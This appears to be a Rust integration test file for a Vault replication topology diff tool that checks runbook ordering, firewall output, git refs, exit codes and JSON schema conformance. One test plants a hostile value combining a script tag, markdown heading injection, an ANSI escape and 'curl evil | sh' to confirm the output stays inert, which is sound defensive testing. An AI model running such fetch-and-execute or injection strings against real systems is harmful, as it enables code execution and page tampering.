//! `vrt diff` through the real binary: the fixture pairs built from the examples (add a DR
//! secondary, remove a performance secondary, move the primary to another site, upgrade one
//! cluster, change a firewall rule; add a paths filter, change a mount's regions, make a mount
//! local, add mounts) in every format, with their delta, findings, resilience,
//! network and runbook checked by assertions and snapshots; the bootstrap runbook of every
//! example checked for its order; `--base` in a git repository made by the test; exit codes;
//! hostile values; and the JSON output against `schemas/diff.schema.json`.

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

const CASES: [&str; 10] = [
    "add-dr-secondary",
    "remove-performance-secondary",
    "move-primary",
    "promote-performance-secondary",
    "upgrade-one-cluster",
    "change-firewall-rule",
    // Mounts and paths filters (their assertions: tests/diff_mounts.rs).
    "add-paths-filter",
    "change-mount-regions",
    "make-mount-local",
    "add-mounts",
];

use common::diff_in as run_in;
use common::root;

fn run(args: &[&str]) -> (i32, String, String) {
    run_in(root(), args)
}

fn pair(case: &str) -> (String, String) {
    (
        format!("tests/fixtures/diff/{case}.old.yaml"),
        format!("tests/fixtures/diff/{case}.new.yaml"),
    )
}

fn json(args: &[&str]) -> (i32, Value) {
    let mut all = args.to_vec();
    all.extend(["--format", "json"]);
    let (code, out, err) = run(&all);
    assert!(code == 0 || code == 1, "{args:?}: exit {code}: {err}");
    (
        code,
        serde_json::from_str(&out).unwrap_or_else(|e| panic!("{args:?}: {e}\n{out}")),
    )
}

fn case(case: &str) -> (i32, Value) {
    let (old, new) = pair(case);
    json(&[&old, &new])
}

/// Every command of the runbook as (step number, cluster, line).
fn commands(doc: &Value) -> Vec<(u64, String, String)> {
    doc["runbook"]["steps"]
        .as_array()
        .expect("a runbook")
        .iter()
        .flat_map(|s| {
            let n = s["number"].as_u64().unwrap();
            s["commands"].as_array().unwrap().iter().map(move |c| {
                (
                    n,
                    c["on"].as_str().unwrap().to_string(),
                    c["line"].as_str().unwrap().to_string(),
                )
            })
        })
        .collect()
}

/// The first step that runs a command on `on` containing `text`.
fn step_of(doc: &Value, on: &str, text: &str) -> u64 {
    commands(doc)
        .into_iter()
        .find(|(_, o, l)| o == on && l.contains(text))
        .unwrap_or_else(|| panic!("no command `{text}` on `{on}`"))
        .0
}

fn change<'a>(doc: &'a Value, kind: &str, name: &str) -> &'a Value {
    doc["changes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["kind"] == kind && c["name"] == name)
        .unwrap_or_else(|| panic!("no change of {kind} `{name}`"))
}

fn codes(doc: &Value, which: &str) -> Vec<String> {
    doc["findings"][which]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            format!(
                "{} {}",
                f["code"].as_str().unwrap(),
                f["cluster"].as_str().unwrap_or("-")
            )
        })
        .collect()
}

#[test]
fn every_pair_in_every_format() {
    for c in CASES {
        let (old, new) = pair(c);
        for format in ["text", "markdown", "json"] {
            let (code, out, err) = run(&[&old, &new, "--format", format]);
            assert!(err.is_empty(), "{c} {format}: {err}");
            insta::assert_snapshot!(format!("{c}-{format}"), format!("exit {code}\n{out}"));
        }
    }
}

#[test]
fn adding_a_dr_secondary_enables_the_dr_primary_first_and_fixes_vrt101() {
    let (code, doc) = case("add-dr-secondary");
    assert_eq!(code, 0);
    assert_eq!(change(&doc, "cluster", "dr-b")["how"], "added");
    assert_eq!(codes(&doc, "fixed"), ["VRT101 perf-b"]);
    // dr-b sits in perf-b's site: losing dc-b now takes out both (a warning, not an error).
    assert_eq!(codes(&doc, "new"), ["VRT301 perf-b"]);
    let enable = step_of(&doc, "perf-b", "write -f sys/replication/dr/primary/enable");
    let token = step_of(
        &doc,
        "perf-b",
        "sys/replication/dr/primary/secondary-token id=dr-b",
    );
    let secondary = step_of(
        &doc,
        "dr-b",
        "sys/replication/dr/secondary/enable token=\"$ACTIVATION_TOKEN\"",
    );
    assert!(enable < token && token <= secondary);
    // The new standby and replication paths of dr-b open before the change; nothing closes.
    let add = doc["network"]["add"].as_array().unwrap();
    assert!(
        add.iter()
            .any(|r| r["name"] == "replication-dr-b-to-perf-b-lb")
    );
    assert!(doc["network"]["remove"].as_array().unwrap().is_empty());
    // Losing dc-b's perf-b was a clients move; now dr-b is promoted and tokens survive.
    let scenario = doc["resilience"]["changes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["kind"] == "cluster" && s["name"] == "perf-b")
        .expect("losing perf-b recovers differently");
    assert_eq!(scenario["new"]["recoveries"][0]["path"], "dr-promotion");
    assert_eq!(scenario["new"]["recoveries"][0]["to"], "dr-b");
    assert_ne!(scenario["old"]["recoveries"][0]["path"], "dr-promotion");
    // Better, not worse, though the promoted dr-b has no DR secondary of its own.
    assert_eq!(scenario["worse"], false);
    // The other way round (removing dr-b), losing perf-b loses its tokens: worse.
    let (old, new) = pair("add-dr-secondary");
    let (_, back) = json(&[&new, &old]);
    let scenario = back["resilience"]["changes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["kind"] == "cluster" && s["name"] == "perf-b")
        .expect("losing perf-b recovers differently");
    assert_eq!(scenario["worse"], true);
}

#[test]
fn removing_a_performance_secondary_moves_its_clients_then_revokes_it() {
    let (_, doc) = case("remove-performance-secondary");
    assert_eq!(change(&doc, "cluster", "sydney-perf")["how"], "removed");
    assert_eq!(change(&doc, "cluster", "sydney-dr")["how"], "removed");
    let steps = doc["runbook"]["steps"].as_array().unwrap();
    let moved = steps
        .iter()
        .position(|s| {
            s["title"] == "Move client `apps-sydney` from `sydney-perf` to `dallas-primary`"
        })
        .expect("a client move");
    let revoke = step_of(
        &doc,
        "dallas-primary",
        "write sys/replication/performance/primary/revoke-secondary id=sydney-perf",
    );
    let dr_gone = steps
        .iter()
        .position(|s| s["title"] == "Remove `sydney-dr`")
        .unwrap();
    let perf_gone = steps
        .iter()
        .position(|s| s["title"] == "Remove `sydney-perf`")
        .unwrap();
    assert!(moved < dr_gone && dr_gone < perf_gone);
    assert_eq!(revoke as usize, perf_gone + 1);
    assert!(
        steps[moved]["text"][1]
            .as_str()
            .unwrap()
            .contains("authenticate again")
    );
    let remove = doc["network"]["remove"].as_array().unwrap();
    assert!(
        remove
            .iter()
            .any(|r| r["name"] == "replication-sydney-perf-to-dallas-primary-lb")
    );
}

#[test]
fn moving_the_primary_demotes_first_and_names_the_window_without_a_primary() {
    let (_, doc) = case("move-primary");
    let tags = &change(&doc, "cluster", "vault-b")["tags"];
    assert_eq!(tags, &serde_json::json!(["re-roled", "re-pointed"]));
    let demote = step_of(
        &doc,
        "vault-a",
        "write -f sys/replication/dr/primary/demote",
    );
    let promote = step_of(
        &doc,
        "vault-b",
        "write sys/replication/dr/secondary/promote dr_operation_token=",
    );
    let perf = step_of(
        &doc,
        "perf-b",
        "update_primary_addrs=https://vault-b.example.com:8201",
    );
    let back = step_of(
        &doc,
        "vault-a",
        "sys/replication/dr/secondary/update-primary dr_operation_token=",
    );
    let token = step_of(
        &doc,
        "vault-a",
        "token create -field=token -role=failover-handler",
    );
    assert!(token < demote && demote < promote && promote < perf && perf < back);
    let windows = doc["runbook"]["risk_windows"].as_array().unwrap();
    assert!(windows.iter().any(|w| w["from_step"] == demote
        && w["to_step"] == promote
        && w["why"].as_str().unwrap().contains("no primary")));
    assert!(
        windows
            .iter()
            .any(|w| w["cluster"] == "vault-b" && w["to_step"] == back)
    );
}

#[test]
fn a_performance_switchover_demotes_only_the_performance_role_and_reissues_a_token() {
    let (_, doc) = case("promote-performance-secondary");
    let demote = step_of(
        &doc,
        "vault-a",
        "write -f sys/replication/performance/primary/demote",
    );
    let promote = step_of(
        &doc,
        "perf-b",
        "write -f sys/replication/performance/secondary/promote",
    );
    let token = step_of(
        &doc,
        "perf-b",
        "performance/primary/secondary-token id=vault-a",
    );
    let attach = step_of(
        &doc,
        "vault-a",
        "performance/secondary/update-primary token=\"$ACTIVATION_TOKEN\"",
    );
    assert!(demote < promote && promote < token && token <= attach);
    // vault-a stays the DR primary of vault-b: its DR role is not demoted.
    assert!(
        !commands(&doc)
            .iter()
            .any(|(_, _, l)| l.contains("dr/primary/demote"))
    );
    assert!(
        !commands(&doc)
            .iter()
            .any(|(_, _, l)| l.contains("dr_operation_token"))
    );
}

#[test]
fn an_upgrade_follows_the_upgrade_plan_and_its_new_error_fails_the_check() {
    let (code, doc) = case("upgrade-one-cluster");
    assert_eq!(code, 1, "a new error fails --fail-on new");
    assert_eq!(
        change(&doc, "cluster", "perf-b")["tags"],
        serde_json::json!(["upgraded"])
    );
    assert!(
        codes(&doc, "new")
            .iter()
            .any(|c| c.ends_with("dr-b") || c.ends_with("perf-b"))
    );
    assert!(doc["findings"]["new_errors"].as_u64().unwrap() >= 1);
    let steps = doc["runbook"]["steps"].as_array().unwrap();
    assert!(steps.iter().any(|s| s["title"] == "Upgrade `perf-b`"));
    let (old, new) = pair("upgrade-one-cluster");
    assert_eq!(run(&[&old, &new, "--fail-on", "none"]).0, 0);
    assert_eq!(run(&[&old, &old, "--fail-on", "new"]).0, 0);
    assert_eq!(
        run(&[&new, &new, "--fail-on", "new"]).0,
        0,
        "no error is new"
    );
    assert_eq!(run(&[&new, &new, "--fail-on", "any"]).0, 1);
}

#[test]
fn a_changed_firewall_fact_shows_as_a_changed_rule_and_new_findings() {
    let (code, doc) = case("change-firewall-rule");
    assert_eq!(code, 1);
    let rule = change(&doc, "firewall-rule", "dc-a-dc-b-vault");
    assert_eq!(
        rule["fields"],
        serde_json::json!([{"name": "ports", "old": "8200, 8201", "new": "8201"}])
    );
    assert!(doc["findings"]["new_errors"].as_u64().unwrap() >= 1);
    // The generated rules come from the flows, which did not change.
    assert!(doc["network"]["add"].as_array().unwrap().is_empty());
    assert!(doc["network"]["remove"].as_array().unwrap().is_empty());
}

#[test]
fn firewall_targets_render_both_sides() {
    let (old, new) = pair("add-dr-secondary");
    for target in ["nftables", "iptables", "aws-sg", "terraform", "azure-nsg"] {
        let (code, out, err) = run(&[
            &old,
            &new,
            "--firewall-format",
            target,
            "--format",
            "markdown",
        ]);
        assert_eq!(code, 0, "{target}: {err}");
        let network = out
            .split("<details><summary>Network")
            .nth(1)
            .and_then(|s| s.split("</details>").next())
            .expect("a network section")
            .to_string();
        insta::assert_snapshot!(format!("add-dr-secondary-firewall-{target}"), network);
    }
    // The before-file of a whole-table target holds every old rule plus the new ones.
    let (_, doc) = json(&[&old, &new, "--firewall-format", "nftables"]);
    let before = doc["network"]["files"][0]["text"].as_str().unwrap();
    let after = doc["network"]["files"][1]["text"].as_str().unwrap();
    assert!(
        before.contains("replication-dr-b-to-perf-b-lb")
            && after.contains("replication-dr-b-to-perf-b-lb")
    );
    assert!(before.contains("delete table inet vrt_two_datacenters"));
}

/// The bootstrap runbook of every example: each secondary is enabled after its primary's
/// role of that kind, and each primary's DR secondaries before its performance secondaries.
#[test]
fn bootstrap_of_every_example_enables_primaries_first_and_dr_before_performance() {
    for file in common::examples() {
        let file = file.as_str();
        let path = root().join(file);
        let (_, doc) = json(&["/dev/null", file]);
        assert_eq!(doc["mode"], "bootstrap", "{file}");
        let topology = vrt::yaml::to_json(&std::fs::read_to_string(&path).unwrap()).unwrap();
        let cmds = commands(&doc);
        let at = |on: &str, text: &str| {
            cmds.iter()
                .position(|(_, o, l)| o == on && l.contains(text))
                .unwrap_or_else(|| panic!("{file}: no `{text}` on `{on}`"))
        };
        for c in topology["clusters"].as_array().unwrap() {
            let name = c["name"].as_str().unwrap();
            let Some(up) = c["replicates_from"].as_str() else {
                continue;
            };
            let kind = if c["role"] == "dr-secondary" {
                "dr"
            } else {
                "performance"
            };
            let primary = at(up, &format!("sys/replication/{kind}/primary/enable"));
            let token = at(
                up,
                &format!("sys/replication/{kind}/primary/secondary-token id={name}"),
            );
            let enable = at(name, &format!("sys/replication/{kind}/secondary/enable"));
            assert!(
                primary < token && token < enable,
                "{file}: `{name}` before its primary"
            );
            if kind == "performance" {
                for d in topology["clusters"].as_array().unwrap() {
                    if d["role"] == "dr-secondary" && d["replicates_from"] == up {
                        let dr = at(
                            d["name"].as_str().unwrap(),
                            "sys/replication/dr/secondary/enable",
                        );
                        assert!(
                            dr < primary,
                            "{file}: DR of `{up}` after its performance secondaries"
                        );
                    }
                }
            }
        }
        assert!(
            doc["runbook"]["risk_windows"]
                .as_array()
                .unwrap()
                .is_empty()
        );
    }
}

#[test]
fn bootstrap_from_an_empty_file_matches_dev_null() {
    let dir = scratch("empty-old");
    std::fs::write(dir.join("empty.yaml"), "\n  \n# nothing yet\n").unwrap();
    let example = root().join("examples/global.yaml");
    let (_, a, _) = run(&[
        dir.join("empty.yaml").to_str().unwrap(),
        example.to_str().unwrap(),
        "--format",
        "json",
    ]);
    let (_, b, _) = run(&["/dev/null", example.to_str().unwrap(), "--format", "json"]);
    let (a, b): (Value, Value) = (
        serde_json::from_str(&a).unwrap(),
        serde_json::from_str(&b).unwrap(),
    );
    assert_eq!(a["runbook"], b["runbook"]);
    std::fs::remove_dir_all(dir).unwrap();
}

fn scratch(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("vrt-diff-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

fn git(dir: &Path, args: &[&str]) {
    let out = Command::new("git")
        .current_dir(dir)
        .args([
            "-c",
            "user.name=vrt",
            "-c",
            "user.email=vrt@example.com",
            "-c",
            "commit.gpgsign=false",
        ])
        .args(args)
        .output()
        .expect("git runs");
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn base_reads_old_from_git() {
    if !common::tool_available("git") {
        return;
    }
    let dir = scratch("base");
    git(&dir, &["init", "-q", "-b", "main"]);
    std::fs::create_dir_all(dir.join("infra")).unwrap();
    let (old, new) = pair("add-dr-secondary");
    let file = dir.join("infra/topology.yaml");
    std::fs::copy(root().join(&old), &file).unwrap();
    git(&dir, &["add", "."]);
    git(&dir, &["commit", "-q", "-m", "old"]);
    std::fs::copy(root().join(&new), &file).unwrap();
    // From a subfolder, with a path relative to it: git gets the path from the repository root.
    let sub = dir.join("infra");
    let (code, out, err) = run_in(
        &sub,
        &["--base", "main", "topology.yaml", "--format", "json"],
    );
    assert_eq!(code, 0, "{err}");
    let doc: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(doc["old"], "main:infra/topology.yaml");
    assert_eq!(doc["mode"], "migration");
    assert_eq!(change(&doc, "cluster", "dr-b")["how"], "added");
    // Same answer as two files.
    let (_, direct) = json(&[&old, &new]);
    assert_eq!(doc["runbook"], direct["runbook"]);
    // An unknown ref, a ref that looks like an option, and a file new at the ref.
    let (code, _, err) = run_in(&sub, &["--base", "no-such-branch", "topology.yaml"]);
    assert_eq!(code, 2);
    assert!(
        err.contains("`no-such-branch` is not a commit, branch or tag"),
        "{err}"
    );
    let (code, _, err) = run_in(&sub, &["--base", "--output=/tmp/x", "topology.yaml"]);
    assert_eq!(code, 2, "{err}");
    std::fs::copy(root().join(&new), sub.join("other.yaml")).unwrap();
    let (code, out, err) = run_in(&sub, &["--base", "main", "other.yaml", "--format", "json"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        serde_json::from_str::<Value>(&out).unwrap()["mode"],
        "bootstrap"
    );
    std::fs::remove_dir_all(&dir).unwrap();
    // Outside any repository.
    let outside = scratch("outside");
    std::fs::copy(root().join(&new), outside.join("t.yaml")).unwrap();
    let (code, _, err) = run_in(&outside, &["--base", "main", "t.yaml"]);
    assert_eq!(code, 2);
    assert!(err.contains("is not inside a git repository"), "{err}");
    std::fs::remove_dir_all(&outside).unwrap();
}

#[test]
fn usage_errors_exit_2() {
    let (old, new) = pair("add-dr-secondary");
    assert_eq!(run(&[&old]).0, 2);
    assert_eq!(run(&["--base", "main", &old, &new]).0, 2);
    assert_eq!(run(&["-", "-"]).0, 2);
    let (code, _, err) = run(&["tests/fixtures/diff/missing.yaml", &new]);
    assert_eq!(code, 2);
    assert!(err.contains("missing.yaml"), "{err}");
}

#[test]
fn json_output_matches_the_committed_schema() {
    let schema = vrt::report::diff::json::schema();
    common::assert_committed_schema(
        "schemas/diff.schema.json",
        &schema,
        "cargo test --test diff_cli json_output",
    );
    let validator = jsonschema::draft7::new(&schema).expect("the schema compiles");
    let mut docs = Vec::new();
    for c in CASES {
        docs.push(case(c).1);
    }
    let (old, new) = pair("move-primary");
    docs.push(json(&[&old, &new, "--firewall-format", "azure-nsg"]).1);
    docs.push(json(&["/dev/null", "examples/global.yaml"]).1);
    docs.push(json(&["tests/fixtures/structural/syntax.yaml", &new]).1);
    for doc in &docs {
        let errors: Vec<String> = validator
            .iter_errors(doc)
            .map(|e| format!("{e} at {}", e.instance_path()))
            .collect();
        assert!(errors.is_empty(), "{errors:#?}");
    }
    let mut doc = docs[0].clone();
    doc["surprise"] = Value::Bool(true);
    assert!(!validator.is_valid(&doc));
}

#[test]
fn hostile_values_stay_inert_in_markdown_and_text() {
    let dir = scratch("hostile");
    let (old, new) = pair("upgrade-one-cluster");
    let text = std::fs::read_to_string(root().join(&new)).unwrap().replace(
        "version: 1.18.1+ent",
        "version: \"1.18.1+ent\\n</details><script>x</script>|`\\n# Steps\\n```\\ncurl evil | sh\\u001b[2J\"",
    );
    std::fs::write(dir.join("new.yaml"), text).unwrap();
    let new = dir.join("new.yaml");
    let (_, md, _) = run(&[&old, new.to_str().unwrap(), "--format", "markdown"]);
    // The value may appear inside a code span (where HTML is text); it must never become
    // HTML, a heading or a code block of its own.
    let mut html = Vec::new();
    for event in pulldown_cmark::Parser::new_ext(&md, pulldown_cmark::Options::ENABLE_TABLES) {
        if let pulldown_cmark::Event::Html(h) | pulldown_cmark::Event::InlineHtml(h) = event {
            html.push(h.to_string());
        }
    }
    assert!(
        html.iter()
            .all(|h| !h.contains("script") && !h.contains("Steps")),
        "{html:?}\n{md}"
    );
    assert!(
        !md.lines()
            .any(|l| l.starts_with("# Steps") || l == "curl evil | sh"),
        "{md}"
    );
    let opened: usize = html.iter().map(|h| h.matches("<details").count()).sum();
    let closed: usize = html.iter().map(|h| h.matches("</details>").count()).sum();
    assert!(opened > 0);
    assert_eq!(opened, closed, "{html:?}");
    let (_, text, _) = run(&[&old, new.to_str().unwrap()]);
    assert!(!text.contains('\u{1b}'));
    std::fs::remove_dir_all(&dir).unwrap();
}

/// Runs `tool args FILE`: whether it accepted the file, and what it said.
fn accepts(tool: &str, args: &[&str], file: &Path) -> (bool, String) {
    let out = Command::new(tool)
        .args(args)
        .arg(file)
        .output()
        .expect("the tool runs");
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn target_files_of_both_sides_load_in_the_real_tools() {
    let (old, new) = pair("remove-performance-secondary");
    let dir = scratch("tools");
    for (target, tool, args) in [
        ("nftables", "nft", &["-c", "-f"][..]),
        ("iptables", "iptables-restore", &["--test", "--noflush"][..]),
    ] {
        if !common::tool_available(tool) {
            continue;
        }
        let (_, doc) = json(&[&old, &new, "--firewall-format", target]);
        let files = doc["network"]["files"].as_array().unwrap();
        assert_eq!(files.len(), 2);
        for f in files {
            let text = f["text"].as_str().expect("a file");
            let path = dir.join(format!("{target}-{}", f["when"].as_str().unwrap()));
            std::fs::write(&path, text).unwrap();
            let (ok, said) = accepts(tool, args, &path);
            assert!(ok, "{target} {}: {said}", f["when"]);
            // The checker rejects a broken file, so its acceptance means something.
            std::fs::write(
                &path,
                text.replacen(" --dports ", " --dportz ", 1).replacen(
                    " accept comment",
                    " acept comment",
                    1,
                ),
            )
            .unwrap();
            assert!(
                !accepts(tool, args, &path).0,
                "{target}: a broken file passed"
            );
        }
    }
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn output_goes_to_the_file_given() {
    let (old, new) = pair("move-primary");
    let dir = scratch("output");
    let path = dir.join("diff.md");
    let (code, out, err) = run(&[
        &old,
        &new,
        "--format",
        "markdown",
        "-o",
        path.to_str().unwrap(),
    ]);
    assert_eq!((code, out.as_str(), err.as_str()), (0, "", ""));
    let (_, direct, _) = run(&[&old, &new, "--format", "markdown"]);
    assert_eq!(std::fs::read_to_string(&path).unwrap(), direct);
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn identical_versions_have_nothing_to_carry_out_and_a_broken_new_fixes_nothing() {
    let file = "examples/global.yaml";
    let (code, doc) = json(&[file, file]);
    assert_eq!(code, 0);
    assert!(doc["changes"].as_array().unwrap().is_empty());
    assert!(doc["runbook"]["steps"].as_array().unwrap().is_empty());
    assert_eq!(doc["resilience"]["changes"], serde_json::json!([]));
    let (code, doc) = json(&[file, "tests/fixtures/structural/syntax.yaml"]);
    assert_eq!(code, 1);
    assert!(doc["findings"]["fixed"].as_array().unwrap().is_empty());
    assert!(doc["runbook"].is_null() && doc["changes"].is_null());
    assert!(
        doc["notes"][0]
            .as_str()
            .unwrap()
            .contains("only the findings are compared")
    );
}

/// A secondary that declares `activation: public-key` is enabled with a token encrypted for
/// its public key (no call to the primary's API); the others keep the wrapped token.
#[test]
fn public_key_activation_is_used_where_declared() {
    let dir = scratch("public-key");
    let text = std::fs::read_to_string(root().join("examples/two-datacenters.yaml"))
        .unwrap()
        .replacen(
            "    replicates_from: primary-a         # data + tokens + leases",
            "    replicates_from: primary-a         # data + tokens + leases\n    activation: public-key",
            1,
        );
    assert!(text.contains("activation: public-key"));
    std::fs::write(dir.join("new.yaml"), text).unwrap();
    let new = dir.join("new.yaml");
    let (code, out, err) = run(&["/dev/null", new.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    let lines: Vec<&str> = out.lines().collect();
    let on = |needle: &str| lines.iter().filter(|l| l.contains(needle)).count();
    assert_eq!(
        on("sys/replication/dr/secondary/generate-public-key"),
        1,
        "{out}"
    );
    assert_eq!(
        on("sys/replication/dr/primary/secondary-token id=dr-a secondary_public_key="),
        1,
        "{out}"
    );
    assert_eq!(
        on("-field=wrapping_token sys/replication/dr/primary/secondary-token id=dr-a"),
        0
    );
    assert_eq!(
        on("-field=wrapping_token sys/replication/performance/primary/secondary-token id=perf-b"),
        1,
        "{out}"
    );
    std::fs::remove_dir_all(&dir).unwrap();
}
